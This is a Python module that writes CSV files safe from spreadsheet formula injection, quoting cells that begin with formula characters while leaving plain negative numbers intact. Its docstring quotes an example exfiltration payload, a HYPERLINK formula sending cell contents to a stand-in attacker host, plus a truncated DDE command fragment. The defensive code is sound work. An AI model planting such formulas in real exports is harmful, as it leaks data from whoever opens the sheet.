"""CSV that a spreadsheet cannot run: OWASP's rule against formula injection, in one place.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?"&A1,"x")` as a
worker's name sends the sheet's cells away when clicked). Such a cell is written with a
single quote in front, which the spreadsheet shows as text and does not evaluate.

A cell that is a plain decimal number (`-300.00`, a no-show's pay) is left as it is: a bare
number is not a formula, and quoting it would turn a debt into text that no column sum
counts. Only the whole cell matching `-?digits[.digits]` is exempt, so `-1+2` or `-2+cmd|...`
are still neutralised, whoever wrote them.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet will show it, never run it."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """csv.writer whose every cell goes through safe_cell: exports use this, never csv.writer."""

    def __init__(self, out: TextIO, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)
